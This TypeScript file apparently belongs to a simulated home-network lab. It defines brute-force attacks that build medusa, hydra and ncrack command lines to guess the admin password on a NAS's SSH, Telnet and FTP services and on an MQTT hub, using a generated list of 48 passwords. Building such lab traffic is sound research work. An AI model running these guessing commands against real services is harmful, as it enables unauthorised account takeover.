// Attacks that guess passwords: medusa on SSH and Telnet, hydra on FTP, ncrack on MQTT.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Attack, nas } from './attack-programs.ts';
import type { Device } from './home.ts';
import type { Household } from './household.ts';

/** The lists need not be tried to their end: Telnet's login program, for one, waits three seconds after each refusal. */
const GUESSING_MS_MAX = 12_000;
const PASSWORDS = 48;

export const bruteForce: Attack = {
  kind: 'brute-force',
  title: 'medusa: 48 passwords tried on SSH',
  target: nas,
  run: (house, source) => guessWithMedusa(house, source, 'ssh', 4),
};

export const telnetBruteForce: Attack = {
  kind: 'brute-force',
  title: 'medusa: up to 48 passwords tried on Telnet',
  target: nas,
  run: (house, source) => guessWithMedusa(house, source, 'telnet', 16),
};

export const ftpBruteForce: Attack = {
  kind: 'brute-force',
  title: 'hydra: 48 passwords tried on FTP',
  target: nas,
  run: (house, source) => {
    const words = [
      'hydra',
      '-I',
      '-l',
      'admin',
      '-P',
      passwordFile(house, source),
      '-t',
      '16',
      `ftp://${house.nas.ip}`,
    ];
    return guess(house, source, words);
  },
};

export const mqttBruteForce: Attack = {
  kind: 'brute-force',
  title: 'ncrack: 48 passwords tried on the MQTT broker',
  target: (house) => house.hub.ip,
  run: (house, source) => {
    const words = [
      'ncrack',
      '--user',
      'admin',
      '-P',
      passwordFile(house, source),
      '-T4',
      `mqtt://${house.hub.ip}:1883`,
    ];
    return guess(house, source, words);
  },
};

function guessWithMedusa(house: Household, source: Device, service: string, atOnce: number): Promise<void> {
  const words = ['medusa', '-h', house.nas.ip, '-u', 'admin', '-P', passwordFile(house, source), '-M', service];
  return guess(house, source, [...words, '-t', String(atOnce)]);
}

async function guess(house: Household, source: Device, words: readonly string[]): Promise<void> {
  const run = await house.home.run(source, words, { timeoutMs: GUESSING_MS_MAX });
  if (run.status !== 0 && run.status !== null) throw new Error(`${words[0]}: exit ${run.status}: ${run.stderr}`);
}

function passwordFile(house: Household, source: Device): string {
  const file = join(house.home.folder, `passwords-${source.name}`);
  writeFileSync(file, `${Array.from({ length: PASSWORDS }, (_, i) => `admin${1000 + i * 37}`).join('\n')}\n`);
  return file;
}
